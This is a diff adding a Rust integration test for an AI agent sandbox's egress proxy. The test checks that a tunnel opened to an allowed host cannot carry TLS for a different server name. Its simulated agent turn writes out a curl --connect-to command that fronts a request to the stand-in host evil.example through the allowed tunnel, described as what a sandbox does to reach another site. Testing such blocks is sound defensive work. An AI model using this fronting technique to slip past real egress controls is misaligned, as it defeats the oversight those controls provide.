@@ -142,3 +142,53 @@ async fn the_agent_cannot_choose_where_a_bound_secret_goes() {
         assert!(!server.stderr_text().contains(secret.as_str()));
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tunnel_to_an_allowed_name_cannot_carry_tls_for_another() {
+    let up = Upstream::https();
+    let p = up.port();
+    let config = format!("[egress]\nallow_private = [\"localhost:{p}\"]\n");
+    let server = Server::start(ServerOptions::new(bin()).config(&config)).await;
+    let api = server.api();
+    // Unrestricted and unbound: a blind tunnel, the kind a CDN-hosted name gets.
+    put_agent(
+        &api,
+        "fronting",
+        json!([{"scheme": "https", "host": "localhost", "port": p}]),
+        json!([]),
+    )
+    .await;
+    let m = token(10);
+    // `--connect-to` makes curl send `CONNECT localhost:p` and then a ClientHello for
+    // evil.example: what a sandbox does to reach another site behind the allowed name's CDN.
+    let turns = [
+        shell(&format!(
+            "curl -sS -k --connect-to evil.example:{p}:localhost:{p} \
+             https://evil.example:{p}/quiet/fronted-{m}"
+        )),
+        shell(&format!(
+            "curl -sS -k https://localhost:{p}/quiet/direct-{m}"
+        )),
+    ];
+    let run = attack(&api, "fronting", &turns).await;
+    assert_blocked(
+        &run,
+        0,
+        "another server name in the tunnel",
+        &["SSL", "TLS", "reset", "closed"],
+    );
+    let rec = run.egress(0);
+    assert_eq!(rec.len(), 1, "{rec:#?}");
+    assert_eq!(rec[0]["method"], "CONNECT", "{rec:?}");
+    assert_eq!(rec[0]["host"], "localhost", "{rec:?}");
+    assert_eq!(rec[0]["decision"], "denied", "{rec:?}");
+    assert_eq!(rec[0]["reason"], "sni_mismatch", "{rec:?}");
+    assert_ok(&run, 1, "the allowed name itself");
+    let seen = up.requests();
+    assert!(
+        seen.iter()
+            .all(|r| !r.target.contains(&format!("fronted-{m}"))),
+        "the fronted request arrived: {seen:#?}"
+    );
+    assert_eq!(seen.len(), 1, "{seen:#?}");
+}
